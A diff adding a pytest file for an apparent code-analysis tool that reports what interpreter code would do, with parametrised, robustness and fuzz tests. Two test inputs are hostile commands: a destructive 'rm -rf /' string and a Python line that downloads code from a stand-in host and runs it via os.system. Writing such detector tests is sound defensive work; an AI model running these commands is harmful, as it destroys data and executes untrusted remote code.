@@ -1,0 +1,80 @@
+"""What code given to an interpreter would do (`code.yaml`), and that reading it always ends."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from ruamel.yaml import YAML
+
+from rulez_py.analysis.languages import LANGUAGES, find
+from rulez_py.analysis.values import DOWNLOAD, LIMIT, Found, Word
+
+CASES: list[dict[str, Any]] = YAML(typ="safe").load((Path(__file__).parent / "code.yaml").read_text("utf-8"))
+NAMES = sorted(set(LANGUAGES.values()))
+
+
+def written(word: Word | None) -> str:
+    assert word is not None
+    return word.glob or (word.text if word.known else "?" + word.text)
+
+
+def does(found: Found) -> list[str]:
+    """A result as the table writes it."""
+    lines = []
+    for inner in found.inner:
+        if inner.words:
+            line = "words " + " | ".join(written(word) for word in inner.words)
+        elif inner.code is not None:
+            line = f"code {inner.language} {written(inner.code)}"
+        else:
+            line = f"file {inner.language} {written(inner.file)}"
+        lines.append(line + (f" as {inner.user}" if inner.user else ""))
+    lines += ["+".join(one.access) + (" deep" if one.deep else "") + " " + written(one.path) for one in found.touches]
+    lines += [f"host {host}" for host in found.hosts]
+    return [*lines, *([f"opaque {found.opaque}"] if found.opaque else [])]
+
+
+@pytest.mark.parametrize("case", CASES, ids=[f"{case['language']}: {case['code'][:50]}" for case in CASES])
+def test_what_code_would_do(case: dict[str, Any]) -> None:
+    arguments = [Word(text=text) for text in case.get("arguments", ())]
+    assert does(find(case["language"], case["code"], arguments)) == case["does"]
+
+
+def test_a_language_nobody_knows_does_nothing() -> None:
+    assert find("cobol", "CALL 'SYSTEM' USING 'rm -rf /'") == Found()
+
+
+def test_what_is_run_says_that_it_was_downloaded() -> None:
+    (inner,) = find("python", "import os, requests; os.system(requests.get('https://h.example/x').text)").inner
+    assert inner.code is not None
+    assert (inner.code.known, inner.code.data.origins) == (False, (DOWNLOAD,))
+
+
+def test_more_than_can_be_read_is_said() -> None:
+    assert find("python", "a;" * 60_000).opaque == LIMIT
+
+
+HOSTILE = ("(", "[", "{", "f({", '"', "'", "\\", "x=x+x;", "a.b", "f'{", "`${", '"#{', "q(", "(/[", "exec('", "<<A ")
+
+
+@pytest.mark.parametrize("language", NAMES)
+@pytest.mark.parametrize("piece", HOSTILE)
+def test_hostile_code_is_read_to_an_end(language: str, piece: str) -> None:
+    assert isinstance(find(language, piece * 5_000), Found)
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.sampled_from(NAMES), st.text())
+def test_any_text_is_read(language: str, text: str) -> None:
+    assert isinstance(find(language, text), Found)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.sampled_from(NAMES), st.sampled_from(CASES), st.integers(0, 300), st.integers(0, 12), st.text(max_size=4))
+def test_damaged_code_is_read(language: str, case: dict[str, Any], at: int, size: int, other: str) -> None:
+    code = case["code"]
+    assert isinstance(find(language, code[:at] + other + code[at + size :], [Word(text="x")]), Found)
